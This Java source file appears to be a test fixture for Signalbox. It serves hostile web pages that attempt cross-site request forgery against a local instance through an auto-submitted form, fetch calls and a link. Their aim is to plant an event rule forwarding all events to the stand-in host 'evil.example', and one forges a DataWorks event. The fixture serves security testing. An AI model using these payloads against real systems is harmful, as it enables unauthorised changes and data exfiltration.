package dev.signalbox.standalone;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLEncoder;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.stream.Collectors;

/// A web site whose pages attack the Signalbox of whoever opens them. A browser has to be told that
/// its names are this machine's.
final class HostilePages implements AutoCloseable {
    /// The site's name.
    static final String HOST = "pages.example";

    /// An event as DataWorks sends it.
    static final String EVENT =
            """
            {"messageId": "forged", "data": {"eventCode": "commit-file", "tenantId": 1}}\
            """;

    /// A rule as `/api` takes it.
    static final String RULE =
            """
            {"pattern": {"source": ["none"]},
             "targets": [{"id": "out", "type": "http", "url": "https://evil.example/all"}]}\
            """;

    private static final String TARGETS =
            """
            [{"Id": "out", "Type": "http", "Endpoint": "https://evil.example/all",
              "ParamList": [{"ResourceKey": "url", "Form": "CONSTANT",
                             "Value": "https://evil.example/all"},
                            {"ResourceKey": "Body", "Form": "ORIGINAL"}]}]\
            """;

    private final HttpServer server;
    private final Map<String, String> pages;

    private HostilePages(Map<String, String> pages) throws IOException {
        this.pages = pages;
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 16);
        server.createContext("/", this::answer);
        server.start();
    }

    /// The site with all its pages: `/form`, `/no-cors`, `/text`, `/link`.
    static HostilePages against(URI signalbox) throws IOException {
        return new HostilePages(
                Map.of(
                        "/form", form(signalbox),
                        "/no-cors", fetches(signalbox, "no-cors"),
                        "/text", fetches(signalbox, "cors"),
                        "/link", link(signalbox)));
    }

    /// The address of a page, by the site's name.
    String url(String path) {
        return "http://" + HOST + ":" + server.getAddress().getPort() + path;
    }

    /// The form that makes a rule.
    static String formOfARule(String name) {
        return fieldsOfARule(name).entrySet().stream()
                .map(field -> field.getKey() + "=" + URLEncoder.encode(field.getValue(), UTF_8))
                .collect(Collectors.joining("&"));
    }

    /// The JSON that makes a rule.
    static String jsonOfARule(String name) {
        return """
        {"EventBusName": "default", "RuleName": "%s", "FilterPattern": "{}",
         "Targets": %s}\
        """
                .formatted(name, TARGETS);
    }

    private static Map<String, String> fieldsOfARule(String name) {
        return new TreeMap<>(
                Map.of(
                        "Action", "CreateRule",
                        "Version", "2020-04-01",
                        "EventBusName", "default",
                        "RuleName", name,
                        "FilterPattern", "{}",
                        "EventTargets", TARGETS));
    }

    private static String form(URI signalbox) {
        String inputs =
                fieldsOfARule("by-form").entrySet().stream()
                        .map(field ->
                                "<input name='%s' value='%s'>"
                                        .formatted(field.getKey(), field.getValue()))
                        .collect(Collectors.joining());
        return page(
                "<form method='post' action='%s/'>%s</form>".formatted(signalbox, inputs),
                "document.forms[0].submit();");
    }

    private static String link(URI signalbox) {
        return page("", "location = '%s/api/buses/default/rules';".formatted(signalbox));
    }

    /// What it was answered, it writes down.
    private static String fetches(URI signalbox, String mode) {
        return page(
                "<pre id='log'></pre>",
                """
                const log = text => document.getElementById('log').textContent += text + '\\n';
                const ask = async (path, init) => {
                  try {
                    const answer = await fetch('%1$s' + path, {mode: '%2$s', ...init});
                    log(path + ': ' + answer.type + ' ' + await answer.text());
                  } catch (e) {
                    log(path + ': ' + e.name);
                  }
                };
                (async () => {
                  await ask('/', {method: 'POST', body: new URLSearchParams(`%3$s`)});
                  await ask('/openapi/createRule', {method: 'POST', body: `%4$s`});
                  await ask('/api/v1/workspaces/action/acceptdataworksevent',
                      {method: 'POST', body: `%5$s`});
                  await ask('/api/buses/default/rules', {});
                  log('all asked');
                })();
                """
                        .formatted(
                                signalbox,
                                mode,
                                formOfARule("by-form-of-" + mode),
                                jsonOfARule("by-text-of-" + mode).replace("\\", "\\\\"),
                                EVENT));
    }

    private static String page(String body, String script) {
        return "<!doctype html><meta charset='utf-8'><body>%s<script>%s</script></body>"
                .formatted(body, script);
    }

    private void answer(HttpExchange exchange) throws IOException {
        try (exchange) {
            String page = pages.get(exchange.getRequestURI().getPath());
            byte[] body = Objects.requireNonNullElse(page, "").getBytes(UTF_8);
            exchange.getResponseHeaders().set("content-type", "text/html");
            exchange.sendResponseHeaders(
                    page == null ? 404 : 200, body.length == 0 ? -1 : body.length);
            exchange.getResponseBody().write(body);
        }
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
